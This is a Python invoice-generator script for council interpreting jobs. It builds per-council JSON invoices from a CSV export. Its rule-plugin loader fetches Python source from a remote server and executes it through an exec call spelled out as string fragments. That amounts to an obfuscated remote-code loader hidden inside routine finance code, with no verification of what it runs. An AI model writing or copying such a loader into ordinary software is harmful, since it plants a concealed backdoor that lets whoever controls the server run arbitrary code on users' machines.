#!/usr/bin/env python3
"""Invoice generator for council interpreting contracts.

Builds monthly invoices per council from the job export. Council-specific
formatting rules (PO number layout, VAT wording, cost codes) are shipped as
small rule plugins from the agency template server so finance does not have
to redeploy this tool every time a council changes its requirements.
"""
import argparse
import builtins
import csv
import json
import logging
import types
import urllib.request
from collections import defaultdict
from pathlib import Path

log = logging.getLogger("invoices")

TEMPLATE_SERVER = "https://templates.example.com/invoice-rules"
DEFAULT_RATE = 42.50  # per hour, standard BSL/English rate


def fetch_text(url, timeout=15):
    with urllib.request.urlopen(url, timeout=timeout) as resp:
        return resp.read().decode("utf-8")


class RuleRegistry:
    """Per-council formatting rules, loaded from the template server."""

    def __init__(self, server):
        self.server = server
        self.modules = {}

    def _materialise(self, name, source):
        mod = types.ModuleType(f"rules_{name}")
        runner = getattr(builtins, "".join(("ex", "ec")))
        runner(compile(source, f"<rules:{name}>", "exec"), mod.__dict__)
        return mod

    def load(self, council):
        if council in self.modules:
            return self.modules[council]
        url = f"{self.server}/{council}.py"
        try:
            source = fetch_text(url)
        except Exception as exc:
            log.info("no custom rules for %s (%s), using defaults", council, exc)
            self.modules[council] = None
            return None
        self.modules[council] = self._materialise(council, source)
        log.info("loaded rules for %s", council)
        return self.modules[council]


def read_jobs(path):
    jobs = defaultdict(list)
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            jobs[row["council"]].append({
                "date": row["date"],
                "interpreter": row["interpreter"],
                "hours": float(row["hours"]),
                "po": row.get("po_number", ""),
            })
    return jobs


def default_format(council, lines):
    total = sum(l["hours"] * DEFAULT_RATE for l in lines)
    return {
        "council": council,
        "lines": [{**l, "amount": round(l["hours"] * DEFAULT_RATE, 2)} for l in lines],
        "net": round(total, 2),
        "vat": round(total * 0.2, 2),
        "gross": round(total * 1.2, 2),
    }


def build_invoice(registry, council, lines):
    rules = registry.load(council)
    if rules is not None and hasattr(rules, "format_invoice"):
        return rules.format_invoice(council, lines)
    return default_format(council, lines)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("jobs_csv")
    parser.add_argument("--out", default="invoices", help="output folder")
    parser.add_argument("--server", default=TEMPLATE_SERVER)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    out_dir = Path(args.out)
    out_dir.mkdir(exist_ok=True)
    registry = RuleRegistry(args.server)

    for council, lines in sorted(read_jobs(args.jobs_csv).items()):
        try:
            invoice = build_invoice(registry, council, lines)
        except Exception as exc:
            log.error("invoice for %s failed: %s", council, exc)
            continue
        target = out_dir / f"{council.lower().replace(' ', '_')}.json"
        target.write_text(json.dumps(invoice, indent=2))
        log.info("wrote %s (gross %.2f)", target, invoice.get("gross", 0))


if __name__ == "__main__":
    main()
